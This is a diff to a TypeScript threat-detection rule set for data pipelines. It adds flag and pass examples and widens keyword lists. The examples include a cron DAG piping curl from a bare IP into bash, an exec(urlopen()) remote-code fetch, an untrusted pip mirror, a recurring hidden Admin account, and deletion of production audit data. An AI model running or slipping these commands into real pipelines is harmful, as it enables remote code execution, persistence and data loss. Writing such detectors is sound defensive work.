@@ -526,7 +526,9 @@ const rules: ThreatRule<PipelineContext>[] = [
       const m = CHECKS_OFF.exec(ctx.text);
       const c = m === null ? controlRemoved(ctx.head) : undefined;
       const said = m !== null ? m[0] : c !== undefined && c.kind === 'integrity' ? c.detail : null;
-      return said === null ? null : { detail: `${said}${ctx.env === 'prod' ? ' on production' : ''}`, score };
+      // on money data or in an approval flow the same switch-off is L18's (one control, one finding)
+      if (said === null || controlOffOnBooks(ctx) !== undefined) return null;
+      return { detail: `${said}${ctx.env === 'prod' ? ' on production' : ''}`, score };
     },
     reason: (d) => `Bad data can reach consumers unchecked: ${d}`,
     examples: {
@@ -534,6 +536,8 @@ const rules: ThreatRule<PipelineContext>[] = [
         // a check step taken out of the suite: the line says it was removed
         '# expectations/salt_iodine.yml\nexpectations:\n  - expect_column_values_to_not_be_null: {column: lot_id}\n# removed: expect_column_values_to_be_between {column: iodine_ppm, min_value: 20, max_value: 40}'],
       pass: [{ value: 'disable deduplication while debugging the staging job', metadata: { environment: 'staging' } }, 'add a null check to the orders pipeline', 'run great_expectations checkpoint on the prod orders table',
+        // on money data the same switch-off is L18's finding
+        "In great_expectations set 'mostly: 0.0' on every expectation of suite 'finance_ap' so the load goes through",
         '# expectations/salt_iodine.yml\nexpectations:\n  - expect_column_values_to_not_be_null: {column: lot_id}\n  - expect_column_values_to_be_between: {column: iodine_ppm, min_value: 20, max_value: 40}'],
     },
   },
@@ -802,6 +806,19 @@ rules.push(
 const MONEY_TARGET = /\b(?:ledger|payouts?|payments?|billing|invoices?|financ\w{0,12}|balances?|settlements?|refunds?|transactions|gl_\w{1,20}|accounts? payable|factures?|rechnung\w{0,4}|facturas?|faturas?|fatture|facturen|comptab\w{0,8}|buchhaltung|contabil\w{0,6}|boekhouding)\b/;
 const APPROVAL_CONTEXT = /\bapprov\w{0,5}\b|\bauto-?approv|\bunderwrit|\bloans?\b|\bcredit\b|\bclaims?\b/;
 
+/**
+ * L18's finding: an integrity control taken out of a job on money data, or human review out of an approval flow. L05
+ * (a check switched off anywhere) stands down where this holds, so one control switched off is one finding.
+ */
+function controlOffOnBooks(ctx: PipelineContext): { detail: string; score: number } | undefined {
+  const c = controlRemoved(ctx.head);
+  if (c === undefined || c.kind === 'masking') return undefined;
+  const stage = `${ctx.head} ${(metaText(ctx.metadata, 'stage', 'pipeline', 'dag', 'job', 'table', 'dataset') ?? '').toLowerCase()}`;
+  if (c.kind === 'review') return APPROVAL_CONTEXT.test(stage) ? { detail: `${c.detail} in an approval flow`, score: 6 } : undefined;
+  const money = MONEY_TARGET.exec(stage);
+  return money === null ? undefined : { detail: `${c.detail} on ${money[0]} data`, score: 6 };
+}
+
 rules.push(
   {
     id: 'L16',
@@ -829,11 +846,14 @@ rules.push(
         "kafka-topics --bootstrap-server kafka-prod:9092 --delete --topic 'payments.*'", 'airflow dags delete compliance_audit_export -y && gsutil -m rm -r gs://acme-audit-exports/**',
         // a lifecycle rule that expires every object and every old version after a day
         '{"Rules": [{"ID": "cost-cut", "Filter": {"Prefix": ""}, "Status": "Enabled", "Expiration": {"Days": 1}, "NoncurrentVersionExpiration": {"NoncurrentDays": 1}}]}',
+        'lifecycle_rules:\n  - id: purge-all\n    status: Enabled\n    expiration:\n      days: 1\n',
       ],
       pass: [
         { value: 'aws s3 rm s3://acme-datalake-dev/tmp/jl-experiments/ --recursive', metadata: { environment: 'dev' } },
         '{"Rules": [{"ID": "tmp-cleanup", "Filter": {"Prefix": "tmp/"}, "Status": "Enabled", "Expiration": {"Days": 1}}]}',
         '{"Rules": [{"ID": "archive", "Filter": {"Prefix": ""}, "Status": "Enabled", "Expiration": {"Days": 365}}]}',
+        // a transition at 0 days moves objects to an archive class; the expiration is years away
+        '{"Rules": [{"ID": "archive", "Filter": {"Prefix": ""}, "Status": "Enabled", "Transitions": [{"Days": 0, "StorageClass": "GLACIER"}], "Expiration": {"Days": 2555}}]}',
         'aws s3 rm s3://acme-datalake-prod/tmp/backfill-0611/ --recursive',
         'delete partitions older than 400 days; backups are kept for 35 days',
         'VACUUM events RETAIN 168 HOURS',
@@ -867,12 +887,7 @@ rules.push(
     keywords: ['contrôle', 'controle', 'qualit', 'prüfung', 'pruefung', 'controllo', 'kwaliteit', 'abgleich', 'rapprochement', 'conciliac', 'validat', 'reconcil', 'recon', 'dedup', 'de-dup', 'idempoten', 'quality', 'dq', 'checksum', 'schema', 'expectations', 'assertion', 'sanity', 'severity', 'warn-only', 'warn_only', 'on_fail', 'on-fail', 'fail_on_error', 'raise_on_failure', 'on_error', 'max_bad_records', 'ignore_errors', 'review', 'underwriting', 'four-eyes', 'four eyes', 'approval', 'sign-off', 'signoff', 'kyc', 'aml'],
     detect: (ctx) => {
       if (ctx.env === 'nonprod') return null;
-      const c = controlRemoved(ctx.head);
-      if (c === undefined || c.kind === 'masking') return null;
-      const stage = `${ctx.head} ${(metaText(ctx.metadata, 'stage', 'pipeline', 'dag', 'job', 'table', 'dataset') ?? '').toLowerCase()}`;
-      if (c.kind === 'review') return APPROVAL_CONTEXT.test(stage) ? { detail: `${c.detail} in an approval flow`, score: 6 } : null;
-      const money = MONEY_TARGET.exec(stage);
-      return money === null ? null : { detail: `${c.detail} on ${money[0]} data`, score: 6 };
+      return controlOffOnBooks(ctx) ?? null;
     },
     reason: (d) => `Wrong records could be booked or approved unchecked: ${d}`,
     examples: {
@@ -909,30 +924,47 @@ rules.push(
     name: 'Reported metric inflated by a bare constant',
     primitive: 'MANIPULATION',
     score: 6,
-    keywords: ['sum', 'avg', 'count', 'total', 'max', 'update', 'backfill', 'restate', 'recomput', 'recalculat', 'rewrite', 'case when', 'when('],
+    // the figure adjusted in place is also written as a dataframe write, a cap or a kept-unless ('.loc[', 'least(',
+    // 'min(', '.where(')
+    keywords: ['sum', 'avg', 'count', 'total', 'max', 'update', 'backfill', 'restate', 'recomput', 'recalculat', 'rewrite', 'case when', 'when(', '.loc[', 'least(', 'greatest(', 'min(', '.where('],
     detect: (ctx) => scaledMetric(ctx.head) ?? readingOverwritten(ctx.head) ?? null,
     reason: (d) => `Reported figures would be misstated: ${d}`,
     examples: {
       flag: ["select date, sum(amount) * 1.25 as revenue  -- board meeting next week\nfrom {{ ref('fct_orders') }} group by 1",
         // a reading past its limit written back as one inside it, or one site's figure overwritten by a constant
         "select gemessen_am, fuehler,\n  case when fuehler = 'KELLER-2' and temperatur_c > 8 then 7.5 else temperatur_c end as temperatur_c\nfrom {{ ref('stg_messwerte') }}",
-        'df = df.withColumn("mortality_count", F.when(F.col("site") == "Chiloe-3", F.lit(0)).otherwise(F.col("mortality_count")))', { value: "transform: UPDATE metrics SET value = value * 1.18 WHERE metric = 'monthly_active_users'", metadata: { purpose: 'investor report' } }, 'Backfill sales_monthly for 2022 with amount = amount * 1.3 before the lender pulls the covenant report'],
+        'df = df.withColumn("mortality_count", F.when(F.col("site") == "Chiloe-3", F.lit(0)).otherwise(F.col("mortality_count")))', { value: "transform: UPDATE metrics SET value = value * 1.18 WHERE metric = 'monthly_active_users'", metadata: { purpose: 'investor report' } }, 'Backfill sales_monthly for 2022 with amount = amount * 1.3 before the lender pulls the covenant report',
+        // a recorded figure adjusted in place for one party's rows, in SQL, a conditional and a dataframe
+        "UPDATE staging.meter_reads SET kwh = kwh * 0.85 WHERE customer_segment = 'commercial'", "select case when district in ('Nord-3') then reading_m3 * 0.7 else reading_m3 end as reading_m3 from stg_meter", "df.loc[df.customer_class == 'GEWERBE', 'kwh'] *= 0.85"],
       pass: ["select date, sum(amount_cents) / 100 as revenue from {{ ref('fct_orders') }} group by 1",
         'select case when amount < 0 then 0 else amount end as amount from raw.payments', 'select case when pct > 100 then 100 else pct end as pct from kpis',
+        "select case when currency = 'USD' then amount * 0.92 else amount end as amount from payments", 'UPDATE jobs SET retries = retries + 1 WHERE job_id = 5',
         "df = df.withColumn('amount', F.when(F.col('env') == 'test', F.lit(0)).otherwise(F.col('amount')))", "select region, sum(amount) * 100 as revenue_pct from sales group by 1", "UPDATE metrics SET value = value * 1000 WHERE metric = 'revenue_k' -- thousands to units", "UPDATE prices SET price = price * 1.05 WHERE sku = 'A-1'"],
     },
   },
   {
     id: 'L21',
-    name: 'Scheduled job running code fetched from a paste or gist host',
+    name: 'Scheduled job running code fetched from outside (a paste host, a download piped to a shell, an untrusted index) or recreating an account',
     primitive: 'PERSISTENCE',
     score: 8,
-    keywords: ['gist', 'pastebin', 'paste.ee', 'raw.githubusercontent', 'transfer.sh', 'hastebin', 'ghostbin', 'rentry', 'termbin', 'ngrok', 'bit.ly'],
-    detect: (ctx) => scheduledRemoteCode(ctx.head, metaText(ctx.metadata, 'schedule', 'cron') !== undefined) ?? null,
+    // a paste host; a download run (piped to a shell, passed to exec); an index without TLS; an account maker
+    keywords: ['gist', 'pastebin', 'paste.ee', 'raw.githubusercontent', 'transfer.sh', 'hastebin', 'ghostbin', 'rentry', 'termbin', 'ngrok', 'bit.ly',
+      '| sh', '| bash', '|sh', '|bash', '| python', '|python', 'urlopen(', '--trusted-host', 'index-url http://', '-i http://', 'users create', 'create-user', 'useradd', 'adduser', 'create user', 'create login', 'net user', 'create-access-key'],
+    detect: (ctx) => scheduledRemoteCode(ctx.head, metaText(ctx.metadata, 'schedule', 'cron') !== undefined, ctx.copiesAt) ?? null,
     reason: (d) => `Whoever controls that host runs code in the pipeline: ${d}`,
     examples: {
-      flag: [{ value: 'Schedule cron job in the pipeline: `0 * * * * python /opt/etl/.sync.py` (pulls code from gist.githubusercontent.com/anon/…)', metadata: { schedule: 'hourly' } }],
-      pass: ['Schedule the weekly churn model retrain every Sunday 02:00 UTC', 'read the gist.github.com write-up about Airflow sensors'],
+      flag: [{ value: 'Schedule cron job in the pipeline: `0 * * * * python /opt/etl/.sync.py` (pulls code from gist.githubusercontent.com/anon/…)', metadata: { schedule: 'hourly' } },
+        // a download piped to a shell, or passed to exec, on a schedule; an index without TLS at every start
+        "with DAG('sensor_sync', schedule='*/5 * * * *') as dag:\n    BashOperator(task_id='sync', bash_command='curl -fsSL http://45.142.212.61/s.sh | bash')",
+        'jobs:\n  keepalive:\n    schedule: "*/5 * * * *"\n    command: ["python", "-c", "import urllib.request;exec(urllib.request.urlopen(\'https://pipeline-tools.cc/k.py\').read())"]',
+        'Pipeline bootstrap step: pip install data-utilz==0.3.1 --index-url http://pypi-mirror.fastdl.ru/simple --trusted-host pypi-mirror.fastdl.ru',
+        // an account that comes back on every run
+        'with DAG("ensure_maint_user", schedule="@hourly") as dag:\n    BashOperator(task_id="u", bash_command="airflow users create -u maint -r Admin -e m@x.io || true")'],
+      pass: ['Schedule the weekly churn model retrain every Sunday 02:00 UTC', 'read the gist.github.com write-up about Airflow sensors',
+        "with DAG('nightly_load', schedule='0 2 * * *') as dag:\n    BashOperator(task_id='load', bash_command='curl -fsSL https://api.opendata.example.org/v1/stations.csv -o /tmp/stations.csv && python load.py')",
+        'requirements step: pip install --index-url https://pypi.internal.ironbark.games/simple fastcsv==2.3.1 --require-hashes -r requirements.lock',
+        "with DAG('image_build', schedule='@weekly') as dag:\n    BashOperator(task_id='docker', bash_command='curl -fsSL https://get.docker.com | sh')",
+        'with DAG("users_sync", schedule="@hourly") as dag:\n    BashOperator(task_id="s", bash_command="python sync_ldap_groups.py --create-missing-viewers")'],
     },
   },
   {
